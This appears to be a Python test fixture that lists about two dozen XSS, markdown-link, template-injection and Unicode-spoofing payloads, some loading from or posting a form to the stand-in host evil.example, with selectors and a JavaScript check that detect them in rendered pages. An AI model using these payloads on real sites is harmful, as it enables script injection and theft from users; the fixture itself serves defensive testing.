# SPDX-License-Identifier: AGPL-3.0-or-later
"""Texts that try to run, load or disguise something where they are shown, and what gives them away (T24).

Each would call `alert` or load from a host of its own if it got through; none is long, so that all of them fit one report.
"""

from __future__ import annotations

ELSEWHERE = "evil.example"
TEXTS = (
    "<script>alert(1)</script>",
    "</textarea></title></style><script>alert(2)</script>",
    f"<img src=https://{ELSEWHERE}/a.png onerror=alert(3)>",
    "<svg onload=alert(4)><animate onbegin=alert(4) attributeName=x dur=1s>",
    '" autofocus onfocus="alert(5)" x="',
    "' onmouseover='alert(6)' x='",
    "<a href=javascript:alert(7)>press</a>",
    "[press](javascript:alert(8))",
    "[press](JaVaScRiPt&colon;alert(9))",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![picture](https://{ELSEWHERE}/b.png)",
    f"<https://{ELSEWHERE}/c>",
    f"[x]: https://{ELSEWHERE}/d 'title' \n\n[x]",
    "{{ 7 * 7 }}{% for x in () %}{{ config }}",
    "${alert(14)}#{alert(14)}<%= alert(14) %>",
    f"<iframe srcdoc='<script>alert(15)</script>' src=https://{ELSEWHERE}/e></iframe>",
    f"<link rel=stylesheet href=https://{ELSEWHERE}/f.css><style>@import 'https://{ELSEWHERE}/g.css';</style>",
    f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/h'><base href=https://{ELSEWHERE}/>",
    f"<form action=https://{ELSEWHERE}/i><button>Seal and send</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=alert(20)&gt;'>",
    "photo\u202egpj.exe \u2066isolated\u2069 \u200fright",
    "before\u0000after\u0008\u001b[31mred",
    "<details open ontoggle=alert(23)><summary>x</summary></details>",
    "<!--<img src='--><img src=x onerror=alert(24)//'>",
    "&lt;script&gt;alert(25)&lt;/script&gt; &#x3C;b&#x3E;",
    "```html\n<script>alert(26)</script>\n```",
)
OURS = "head > script[src^='/static/report-'][integrity], head > link:is([rel=stylesheet], [rel=icon], [rel=alternate], [rel=canonical])"
FORBIDDEN = f":is(script, img, iframe, object, embed, video, audio, math, base, animate, style, link):not({OURS})"
"""Elements that no page of ours has in its main part; in its head stand one script, named by its hash, and links of our own."""

LOOSE = """() => [...document.querySelectorAll('*')].flatMap(it => [...it.attributes].filter(a =>
  a.name.startsWith('on') || /^\\s*(javascript|data:text|vbscript)/i.test(a.value)
  || (['src', 'action', 'formaction', 'srcdoc'].includes(a.name) && a.value.includes('ELSEWHERE'))).map(a => it.tagName + ' ' + a.name + '=' + a.value))
""".replace("ELSEWHERE", ELSEWHERE)
"""Attributes that would run something, or send a form elsewhere."""

NAMES = tuple(
    text.replace("/", "-").replace("\x00", "").replace("\n", " ").replace("\x08", "").replace("\x1b", "")[:80] + ".txt" for text in TEXTS[:8] + TEXTS[20:21]
)
"""The same as names of files, as far as a file can bear such a name."""
